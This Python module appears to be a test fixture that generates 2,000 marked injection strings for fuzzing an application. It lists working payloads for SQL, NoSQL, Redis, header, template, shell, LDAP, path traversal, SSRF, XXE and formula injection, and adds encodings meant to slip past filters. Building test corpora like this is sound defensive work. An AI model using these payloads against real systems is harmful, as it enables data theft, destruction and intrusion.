"""The strings: 2,000 of them, always the same, made from seeds of each kind of interpreter.

`MARK` stands where each request puts a mark of its own, by which the string is found again.
"""

from collections.abc import Callable, Iterator
from itertools import chain, islice
from urllib.parse import quote

SIZE = 2000
MARK = "{m}"

# What would have to be seen if a template or a formula were worked out: 7 * 191.
WORKED_OUT = "1337"

_SQL = """
{m}'
{m}"
{m}''
{m}`
{m}\\'
{m}' OR '1'='1
{m}' OR 1=1 --
{m}' OR 1=1 /*
{m}" OR "1"="1
{m}') OR ('1'='1
{m}')) OR (('1'='1' --
{m}' AND 1=0 UNION SELECT NULL --
{m}' UNION SELECT email, password FROM accounts_user --
{m}' UNION ALL SELECT version(), current_user --
{m}'; DROP TABLE orders_order; --
{m}'; DELETE FROM inventory_stockmovement; --
{m}'; UPDATE accounts_user SET is_superuser = true; --
{m}'; INSERT INTO auth_group (name) VALUES ('{m}'); --
{m}'; TRUNCATE shop_piiaccess; --
{m}'; COPY (SELECT 1) TO PROGRAM 'id'; --
{m}'; SET ROLE postgres; --
{m}'; COMMIT; --
{m}'; ROLLBACK; BEGIN; --
{m}' AND pg_sleep(9) IS NULL --
{m}'||pg_sleep(9)||'
{m}' AND 1=CAST((SELECT version()) AS int) --
{m}' AND (SELECT count(*) FROM pg_user) > 0 --
{m}' AND extractvalue(1, concat(0x7e, version())) --
{m}' AND substr((SELECT password FROM accounts_user LIMIT 1), 1, 1) = 'a
{m}'||(SELECT current_database())||'
{m}' IS NOT NULL --
{m}' LIKE '%
{m}' ~ '^(a+)+$
{m}' ORDER BY 99 --
{m}' GROUP BY 1 HAVING 1=1 --
{m}' LIMIT 1 OFFSET 0 --
{m}' RETURNING * --
{m}' FOR UPDATE --
{m}' INTO OUTFILE '/tmp/{m}
{m}'; NOTIFY outbox, '{m}'; --
{m}'; LISTEN outbox; --
{m}'; SELECT pg_terminate_backend(pg_backend_pid()); --
{m}'; SELECT lo_import('/etc/passwd'); --
{m}'; SELECT dblink('host=127.0.0.1', 'SELECT 1'); --
{m}'; DO $$ BEGIN PERFORM 1; END $$; --
{m}$$; SELECT 1; $$
{m}$1
{m}%s
{m}%(id)s
{m}%%
{m}:id
{m}?
{m}' /*!50000OR*/ 1=1 #
1 OR {m}
1; SELECT '{m}'
-1 UNION SELECT '{m}'
(SELECT '{m}')
{m}, (SELECT 1)
{m} DESC
{m} NULLS FIRST
-{m}
{m}--
{m}/**/OR/**/1=1
{m}\\
E'{m}\\''
U&'{m}\\0027'
{m}::regclass
{m}::int
CAST('{m}' AS int)
{m}__gt
{m}__password__startswith
owner__{m}
_connector=OR&{m}
{"_negated": true, "m": "{m}"}
{m}%
%{m}%
_{m}_
{m}\\%
"""
_NOSQL = """
{"$gt": "", "m": "{m}"}
{"$ne": null, "m": "{m}"}
{"$where": "sleep(9) || '{m}'"}
{"$regex": "^{m}"}
[$ne]={m}
{m}'; return true; var x='
{m}' && this.password.match(/.*/) //
{"{m}": {"$gt": ""}}
db.users.drop(); //{m}
true, $where: '{m}'
"""
_REDIS = """
{m}<CR><LF>FLUSHALL<CR><LF>
{m}<CR><LF>SET {m} 1<CR><LF>
{m}<CR><LF>*3<CR><LF>$3<CR><LF>SET<CR><LF>$7<CR><LF>{m}<CR><LF>$1<CR><LF>1<CR><LF>
{m}<LF>CONFIG SET dir /tmp<LF>
{m}<CR><LF>SLAVEOF 127.0.0.1 6379<CR><LF>
{m}"]) redis.call("FLUSHALL") --
{m}') return redis.call('SET','{m}','1') --
{m}}:{other
{{m}}:items
*{m}*
{m}[a-z]?
cart:{{m}}:items
"""
_HEADER = """
{m}<CR><LF>X-Injected: {m}
{m}<CR><LF>Set-Cookie: sessionid={m}
{m}<CR><LF><CR><LF><html>{m}</html>
{m}<LF>X-Injected: {m}
{m}<CR>X-Injected: {m}
{m}%0d%0aX-Injected:%20{m}
{m}\u560d\u560aX-Injected: {m}
{m}<CR><LF>Content-Length: 0<CR><LF><CR><LF>HTTP/1.1 200 OK<CR><LF>
{m}<CR><LF>Location: https://{m}.example
"{m}", W/"{m}", *
{m}; q=0.{m}
bearer {m}
"""
_TEMPLATE = """
{m}{{7*191}}
{m}${7*191}
{m}#{7*191}
{m}<%= 7*191 %>
{m}{% debug %}
{m}{% load log %}{% get_admin_log 10 as x %}
{m}{{ settings.SECRET_KEY }}
{m}{{request.user.password}}
{m}{0.__class__.__init__.__globals__}
{m}%(asctime)s
{m}${jndi:ldap://127.0.0.1/{m}}
{m}{{''.__class__.__mro__[1].__subclasses__()}}
{m}@{7*191}
{m}*{7*191}
{m}[[${7*191}]]
{m}__import__('os').system('id')
{m}!!python/object/apply:os.system ["id"]
{m}c__builtin__<LF>eval<LF>(V1<LF>tR.
gASVCAAAAAAAAACMBHtt{m}
"""
_SHELL = """
{m}; id
{m} | id
{m} && sleep 9
{m}`id`
{m}$(id)
{m}<LF>id
{m} > /tmp/{m}
--{m}
-oProxyCommand={m}
{m} & ping 127.0.0.1 &
"""
_LDAP = """
{m}*)(uid=*))(|(uid=*
{m})(|(password=*))
*{m}
{m}\\2a
(&(objectClass=*)(cn={m}))
{m}' or '1'='1' or ''='
{m}'] | //user/*[contains(*,'
{m}" and count(/*)=1 and "
"""
_PATH = """
../../../../etc/passwd{m}
..\\..\\{m}
....//....//{m}
/etc/passwd#{m}
file:///etc/passwd?{m}
{m}/../../admin/
{m}%2e%2e%2fadmin
{m}%00.png
{m};/../admin
//{m}.example/
\\\\{m}.example\\share
http://169.254.169.254/{m}
http://127.0.0.1:6379/{m}
gopher://127.0.0.1:6379/_{m}
CON{m}
{m}.php
~{m}
./{m}
"""
_MARKUP = """
<script>alert('{m}')</script>
"><svg onload=alert('{m}')>
javascript:alert('{m}')
<!DOCTYPE x [<!ENTITY m SYSTEM "file:///etc/passwd">]><x>{m}&m;</x>
<?xml version="1.0"?><m>{m}</m>
]]>{m}<![CDATA[
&{m};
<!--#exec cmd="id" {m}-->
<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/>{m}</x>
"""
_FORMULA = """
=7*191&"{m}"
=cmd|' /C calc'!{m}
+{m}
-{m}+7*191
@SUM({m})
\t={m}
<CR>={m}
=HYPERLINK("http://{m}.example")
=IMPORTXML("http://{m}.example", "//a")
"""
_UNICODE = """
{m}\u02bc OR 1=1
{m}\u2019 OR 1=1 --
{m}\uff07 OR \uff07{m}
{m}\u00bf\u00bf
{m}\u202egnp.exe
{m}\u200b\u200d\ufeff
{m}\U0001f4a9\U0010ffff
{m}\u0130\u0131\u017f
{m}\ufdfa
{m}e\u0301\u0301\u0301\u0301
\u212a{m}
{m}\u2028\u2029
{m}\x00
{m}\x00' OR 1=1 --
{m}\x1b[31m
{m}\x7f\x80\x9f
{m}\ud800
{m}\udfff\ud800
{m}\ufffe\uffff
"""
_NUMBER = """
1{m}
1e{m}
0x{m}
NaN{m}
-{m}.5
9999999999999999999999{m}
{m}.0
1_{m}
2026-01-01T00:00:00Z{m}
2026-13-45{m}
true{m}
null{m}
00000000-0000-0000-0000-00000{m}
{m},{m},{m}
"""
_JSON = """
{"m": "{m}"
[[[[[[[[[["{m}"]]]]]]]]]]
{"__proto__": {"is_staff": true}, "m": "{m}"}
{"constructor": {"prototype": {"m": "{m}"}}}
{"m": "{m}", "m": "{m}2"}
"\\ud800{m}"
["{m}", null, true, 1e400]
{"": "{m}"}
"""
KINDS: dict[str, str] = {
    "SQL": _SQL,
    "NoSQL": _NOSQL,
    "Redis protocol": _REDIS,
    "header": _HEADER,
    "template": _TEMPLATE,
    "shell": _SHELL,
    "LDAP and XPath": _LDAP,
    "path": _PATH,
    "markup": _MARKUP,
    "formula": _FORMULA,
    "unicode": _UNICODE,
    "number": _NUMBER,
    "JSON": _JSON,
}


def _with_mark(change: Callable[[str], str]) -> Callable[[str], str]:
    """Have a change leave the marks alone."""
    return lambda text: MARK.join(change(part) for part in text.split(MARK))


_WIDE = str.maketrans("<>';(", "\uff1c\uff1e\uff07\uff1b\uff08")
# How each seed is dressed, so as to get past what looks for it.
_DRESSES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    _with_mark(lambda part: quote(part, errors="replace")),
    _with_mark(lambda part: quote(quote(part, errors="replace"))),
    _with_mark(str.swapcase),
    _with_mark(lambda part: part.replace(" ", "/**/")),
    _with_mark(lambda part: part.replace(" ", "\t").replace("'", "''")),
    _with_mark(lambda part: part.replace("'", "\u2019").replace('"', "\u201d")),
    _with_mark(lambda part: part.translate(_WIDE)),
    lambda text: f"  {text}  ",
    lambda text: f"x{text}",
    lambda text: f"{text}{text}",
    lambda text: text + "A" * 300,
)  # fmt: skip


def corpus() -> list[tuple[str, str]]:
    """Return 2,000 different strings, each with its kind; the kinds take turns."""
    found: dict[str, str] = {}
    for dress in _DRESSES:
        for kind, text in _turns():
            found.setdefault(dress(text), kind)
    chosen = list(islice(found.items(), SIZE))
    assert len(chosen) == SIZE, f"only {len(found)} strings"
    return [(kind, text) for text, kind in chosen]


def _turns() -> Iterator[tuple[str, str]]:
    """Yield every seed, one of each kind after the other."""
    seeds = {kind: [one for one in _lines(text) if MARK in one] for kind, text in KINDS.items()}
    most = max(len(lines) for lines in seeds.values())
    return chain.from_iterable(
        ((kind, lines[turn]) for kind, lines in seeds.items() if turn < len(lines))
        for turn in range(most)
    )


def _lines(text: str) -> list[str]:
    return [
        line.replace("<CR>", "\r").replace("<LF>", "\n") for line in text.strip("\n").split("\n")
    ]
